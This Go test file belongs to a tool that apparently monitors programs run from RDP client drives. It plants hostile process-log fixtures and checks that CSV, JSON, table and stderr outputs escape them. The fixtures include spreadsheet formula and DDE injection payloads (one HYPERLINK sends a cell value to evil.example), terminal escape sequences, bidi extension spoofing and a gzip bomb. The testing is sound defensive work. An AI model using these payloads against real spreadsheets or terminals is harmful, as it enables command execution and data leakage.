package main

import (
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/tsclientwatch/tsclientwatch/internal/escape"
)

// hostileECS returns NDJSON process starts whose fields carry what the
// review planted (E8): spreadsheet formulas, terminal escapes, C1 CSI and
// bidi overrides, all in fields the RDP client's user or the process
// controls.
func hostileECS(t *testing.T) (path string, events []map[string]string) {
	t.Helper()
	events = []map[string]string{
		{"exe": `\\tsclient\c\tools\a.exe`, "cmd": `=HYPERLINK("http://evil.example/?"&A1,"click")`, "cwd": "+cmd|' /C calc'!A0", "user": "bob\u202e"},
		{"exe": `\\tsclient\=1+1\b.exe`, "cmd": "@SUM(1+1)*cmd|' /C calc'!A0", "cwd": "-2+3", "user": "eve"},
		{"exe": "\\\\tsclient\\c\\invoice\u202eexe.pdf.exe", "cmd": "x\x1b]0;PWNED\x07\x1b[2J", "cwd": "  =1+1", "user": "c1\u009b31m"},
		{"exe": `\\tsclient\c\tab.exe`, "cmd": "\t=1+1", "cwd": "\r=1+1", "user": "z\u2066w\u2069"},
	}
	var b strings.Builder
	for i, e := range events {
		doc := map[string]any{
			"@timestamp": "2024-03-12T09:41:07Z",
			"event":      map[string]any{"category": []string{"process"}, "type": []string{"start"}},
			"process": map[string]any{"executable": e["exe"], "command_line": e["cmd"],
				"working_directory": e["cwd"], "pid": 100 + i},
			"user": map[string]any{"name": e["user"]},
		}
		line, err := json.Marshal(doc)
		if err != nil {
			t.Fatal(err)
		}
		b.Write(line)
		b.WriteByte('\n')
	}
	path = filepath.Join(t.TempDir(), "hostile.ndjson")
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	return path, events
}

// noUnsafe fails when out holds a rune a terminal or viewer acts on (the
// line breaks of the format itself aside).
func noUnsafe(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s: invalid UTF-8 in output", what)
	}
	for _, r := range out {
		if r != '\n' && escape.Unsafe(r) {
			t.Errorf("%s: raw %U in output:\n%s", what, r, out)
			return
		}
	}
}

const hostileSQL = "SELECT pid, path, client_drive, cmdline, cwd, username FROM tsclient_executions ORDER BY pid"

// TestQueryCSVNeutralisesFormulas: review E8. Every text cell that a
// spreadsheet would run as a formula starts with an apostrophe; numbers
// are left alone; no control, C1 or bidi character is written raw.
// --csv-raw writes the formulas as they are, still without raw controls.
func TestQueryCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	path, events := hostileECS(t)
	r := runCLI(t, nil, "query", "--replay", path, "--format", "csv", hostileSQL)
	if r.code != exitOK {
		t.Fatalf("code %d stderr %q", r.code, r.stderr)
	}
	noUnsafe(t, "csv", r.stdout)
	recs, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil {
		t.Fatalf("%v\n%s", err, r.stdout)
	}
	if len(recs) != 1+len(events) {
		t.Fatalf("%d records, want %d:\n%s", len(recs), 1+len(events), r.stdout)
	}
	drives := map[string]bool{}
	for _, rec := range recs[1:] {
		if strings.HasPrefix(rec[0], "'") {
			t.Errorf("numeric pid quoted: %q", rec[0])
		}
		drives[rec[2]] = true
		for _, c := range rec {
			if s := strings.TrimLeft(c, " "); s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
				t.Errorf("formula cell %q written raw", c)
			}
		}
	}
	if !drives["'=1+1"] {
		t.Errorf("client_drive =1+1 not neutralised: %v", drives)
	}
	if !strings.Contains(r.stdout, `'=HYPERLINK(`) || !strings.Contains(r.stdout, `'  =1+1`) {
		t.Errorf("expected quoted formulas in:\n%s", r.stdout)
	}

	r = runCLI(t, nil, "query", "--replay", path, "--format", "csv", "--csv-raw", hostileSQL)
	if r.code != exitOK {
		t.Fatalf("--csv-raw: code %d stderr %q", r.code, r.stderr)
	}
	noUnsafe(t, "csv-raw", r.stdout)
	if !strings.Contains(r.stdout, `"=HYPERLINK(""http://evil.example/?""&A1,""click"")"`) {
		t.Errorf("--csv-raw did not keep the formula as it is:\n%s", r.stdout)
	}
}

// TestQueryJSONEscapesC1AndBidi: review E8. The JSON output carries no raw
// C1 control or bidi/format character, and decodes to the exact strings.
func TestQueryJSONEscapesC1AndBidi(t *testing.T) {
	t.Parallel()
	path, events := hostileECS(t)
	r := runCLI(t, nil, "query", "--replay", path, "--format", "json", hostileSQL)
	if r.code != exitOK {
		t.Fatalf("code %d stderr %q", r.code, r.stderr)
	}
	noUnsafe(t, "json", r.stdout)
	var rows []map[string]any
	if err := json.Unmarshal([]byte(r.stdout), &rows); err != nil {
		t.Fatalf("%v\n%s", err, r.stdout)
	}
	if len(rows) != len(events) {
		t.Fatalf("%d rows, want %d", len(rows), len(events))
	}
	for i, e := range events {
		if rows[i]["path"] != e["exe"] || rows[i]["cmdline"] != e["cmd"] || rows[i]["username"] != e["user"] {
			t.Errorf("row %d = %q, want the exact strings %q", i, rows[i], e)
		}
	}
}

// TestOutputsEscapeBidi: review E8. The table formats of query and scan
// and scan's NDJSON show no raw bidi override, C1 or ESC.
func TestOutputsEscapeBidi(t *testing.T) {
	t.Parallel()
	path, _ := hostileECS(t)
	r := runCLI(t, nil, "query", "--replay", path, "--format", "table", hostileSQL)
	if r.code != exitOK {
		t.Fatalf("query table: code %d stderr %q", r.code, r.stderr)
	}
	noUnsafe(t, "query table", r.stdout)
	if !strings.Contains(r.stdout, `invoice\u202eexe.pdf.exe`) || !strings.Contains(r.stdout, `bob\u202e`) {
		t.Errorf("bidi not shown escaped:\n%s", r.stdout)
	}
	for _, format := range []string{"table", "ndjson"} {
		r = runCLI(t, nil, "scan", "--format", format, path)
		if r.code != exitOK {
			t.Fatalf("scan %s: code %d stderr %q", format, r.code, r.stderr)
		}
		noUnsafe(t, "scan "+format, r.stdout)
	}
	if n := len(ndjsonLines(t, r.stdout)); n != 4 {
		t.Errorf("scan ndjson: %d detections, want 4", n)
	}
}

// TestStderrEscaped: review E9. File names and log contents reach stderr
// only escaped: scan's input and record errors, and query's report of a
// source's last error.
func TestStderrEscaped(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	// An OSC title change in a file name: the file is not JSON inside.
	evil := filepath.Join(dir, "evil\x1b]0;PWNED\x07.json")
	if err := os.WriteFile(evil, []byte("{\"a\":\x1b[5m}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	// Log content quoted by the XML parser's error.
	bad := filepath.Join(dir, "bad.xml")
	xml := "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Bad\x1b[5m attr=x></System><EventData><Data Name='NewProcessName'>\\\\tsclient\\c\\a.exe</Data></EventData></Event>\n"
	if err := os.WriteFile(bad, []byte(xml), 0o600); err != nil {
		t.Fatal(err)
	}
	r := runCLI(t, nil, "scan", dir)
	if r.code != exitError {
		t.Fatalf("scan: code %d stderr %q", r.code, r.stderr)
	}
	noUnsafe(t, "scan stderr", r.stderr)
	if !strings.Contains(r.stderr, `evil\x1b]0;PWNED\x07.json`) {
		t.Errorf("scan stderr does not name the file escaped:\n%s", r.stderr)
	}
	if !strings.Contains(r.stderr, `Bad\x1b[5m`) {
		t.Errorf("scan stderr does not show the XML error escaped:\n%s", r.stderr)
	}

	r = runCLI(t, nil, "query", "--replay", dir, "SELECT count(*) FROM tsclient_executions")
	if r.code != exitOK {
		t.Fatalf("query: code %d stderr %q", r.code, r.stderr)
	}
	noUnsafe(t, "query stderr", r.stderr)
	if !strings.Contains(r.stderr, `\x1b`) {
		t.Errorf("query stderr does not report the last error escaped:\n%s", r.stderr)
	}

	// The same text in tsclientwatch_status, as CSV and JSON, is escaped
	// at the table, so osquery's results are safe too.
	for _, format := range []string{"csv", "json"} {
		r = runCLI(t, nil, "query", "--replay", dir, "--format", format, "SELECT target, last_error FROM tsclientwatch_status")
		if r.code != exitOK {
			t.Fatalf("query status %s: code %d stderr %q", format, r.code, r.stderr)
		}
		noUnsafe(t, "status "+format, r.stdout)
		if !strings.Contains(r.stdout, `\x1b`) {
			t.Errorf("status %s does not show the error escaped:\n%s", format, r.stdout)
		}
	}
}

// TestConsoleEscapes: every line the console prints (watch's banner with
// mount names, record errors) is escaped, its final newline kept.
func TestConsoleEscapes(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	con := newConsole(&b)
	con.printf("watching with %s (%s)\n", "fanotify", "/tmp/u2/\x1b]0;PWNED\x07\x1b[41m/thinclient_drives")
	want := `watching with fanotify (/tmp/u2/\x1b]0;PWNED\x07\x1b[41m/thinclient_drives)` + "\n"
	if b.String() != want {
		t.Errorf("console wrote %q, want %q", b.String(), want)
	}
}

// TestScanSpoolCapFromConfig: review H2. input.max_spool bounds the
// temporary copy of an EVTX log that arrives compressed: a gzip bomb past
// it is refused with an error naming the key, and the run goes on.
func TestScanSpoolCapFromConfig(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	var zb bytes.Buffer
	zw := gzip.NewWriter(&zb)
	zw.Write([]byte("ElfFile\x00"))
	zw.Write(make([]byte, 2<<20)) // 2 MiB of zeros: a few KB compressed
	zw.Close()
	bomb := filepath.Join(dir, "bomb.evtx.gz")
	if err := os.WriteFile(bomb, zb.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := filepath.Join(dir, "c.yaml")
	if err := os.WriteFile(cfg, []byte("input: {max_spool: 1048576}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	r := runCLI(t, nil, "scan", "--config", cfg, bomb)
	if r.code != exitError || !strings.Contains(r.stderr, "bomb.evtx.gz: EVTX stream larger than 1048576 bytes (input.max_spool), not read") {
		t.Fatalf("code %d stderr %q", r.code, r.stderr)
	}
}
